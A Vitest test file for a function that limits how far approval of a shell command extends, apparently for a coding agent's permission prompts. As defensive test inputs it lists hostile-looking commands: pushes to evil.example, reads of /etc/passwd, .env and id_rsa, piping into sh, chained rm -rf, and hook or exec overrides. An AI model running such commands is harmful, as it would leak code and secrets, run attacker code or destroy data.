import { describe, expect, it } from "vitest";
import { describeCommandAction } from "./command-cover.ts";

describe("what a yes to a command covers", () => {
  it("is a program with its subcommand if all else is harmless and stays in the workspace", () => {
    expect(describeCommandAction("git push origin main")).toBe("shell git push");
    expect(describeCommandAction("npm test")).toBe("shell npm test");
    expect(describeCommandAction("npm run build")).toBe("shell npm run build");
    expect(describeCommandAction("cargo test --release cart")).toBe("shell cargo test");
    expect(describeCommandAction("go test -v ./...")).toBe("shell go test");
  });

  it.each(["git diff --stat", "git diff --cached src/a.ts", "git diff HEAD -- src"])(
    "is the same for harmless options: %s",
    (command) => expect(describeCommandAction(command)).toBe("shell git diff"),
  );

  it.each([
    ["cat src/cart.js", "cat"],
    ["cat -n a.txt b.txt", "cat"],
    ["head -n 5 a.txt", "head"],
    ["tail -20 a.txt", "tail"],
    ["grep -n price src/cart.js", "grep"],
    ["grep -n 'total price' src/cart.js", "grep"],
    ["grep -n PASS src/cart.js", "grep"],
    ["ls -la src", "ls"],
    ["ls", "ls"],
    ["wc -l a.txt", "wc"],
    ["sed -n 1,5p a.txt", "sed -n"],
    ["find src -name cart.js -type f", "find"],
  ])("is a program that only reads, with any file of the workspace: %s", (command, covered) =>
    expect(describeCommandAction(command)).toBe(`shell ${covered}`),
  );

  it("does not depend on the text of a commit's message", () => {
    expect(describeCommandAction('git commit -m "fix: a / b, see ../x"')).toBe("shell git commit");
    expect(describeCommandAction('git commit -am "- x"')).toBe("shell git commit");
    expect(describeCommandAction("git commit -m -m --file=/etc/passwd")).not.toBe("shell git commit");
    expect(describeCommandAction("git commit -- -m /etc/passwd")).not.toBe("shell git commit");
    expect(describeCommandAction("git commit -m x --file=/etc/passwd")).not.toBe("shell git commit");
  });

  it.each([
    "git diff --output=/home/ada/.bashrc",
    "git diff --output /home/ada/.bashrc",
    "git diff --no-index /etc/hostname /dev/null",
    "git diff /etc/hostname /dev/null",
    "git diff --ext-diff",
    "git diff ../../bank",
    "git diff src/../../../bank",
    "cat /etc/passwd",
    "cat ../a",
    "cat .env",
    "cat id_rsa",
    "cat ~/a",
    "cat a > b",
    "head -n 5 secrets/a",
    "grep -f /etc/passwd a",
    "grep x ../a",
    "grep -rn x src",
    "rg x",
    "ls -R ../..",
    "sed -i s/a/b/ a.txt",
    "sed -n 1w/tmp/x a.txt",
    "sed -n -f x a.txt",
    "sed -n 1e a.txt",
    "find . -delete",
    "find . -exec rm x",
    "find . -fprint x",
    "find -L . -name x",
    "find / -name x",
    "git push --receive-pack=/tmp/x.sh . HEAD:x",
    "git push --exec=x origin",
    "git push ext::sh",
    "git push evil.example:repo main",
    "git push ada@evil.example:repo main",
    "git push https://evil.example/x main",
    "git push origin +main",
    "git push origin :main",
    "git push --force origin main",
    "git fetch --upload-pack=./x origin",
    "git add .env",
    "git log -c --output=x",
    "git remote add evil x",
    "git worktree add x",
    "git archive --remote=x HEAD",
    "npm test --prefix /elsewhere",
    "npm test --prefix elsewhere",
    "npm test -C elsewhere",
    "npm test --script-shell=./x",
    "npm test -- --config=evil.js",
    "npm test -- --outputFile=../x",
    "npm run build --userconfig x",
    "npm install evil",
    "npx tsx evil.ts",
    "uv run python evil.py",
    "bundle exec ruby x.rb",
    "make test CC=./evil",
    "make test -f evil.mk",
    "make -C elsewhere test",
    "cargo test --config x",
    "cargo build --target-dir x",
    "go test -exec ./x",
    "go build -o x",
    "go vet -vettool=./x",
    "kubectl get pods --kubeconfig x",
    "terraform plan -out=x",
    "mvn test @args",
  ])("is the very command if an argument may lead elsewhere: %s", (command) =>
    expect(describeCommandAction(command)).toBe(`shell ${command}`),
  );

  it.each([
    "git push && rm -rf x",
    "git push; x",
    "git push | sh",
    "git push $(x)",
    "git push > a",
    "GIT_SSH_COMMAND=x git push",
    "git -c core.sshCommand=x push",
    "sudo git push",
    "npm exec evil",
    "docker run evil",
    "rm -rf x",
    "python a.py",
    "git push\nrm x",
  ])("is else the very command: %j", (command) => expect(describeCommandAction(command)).toBe(`shell ${command}`));
});
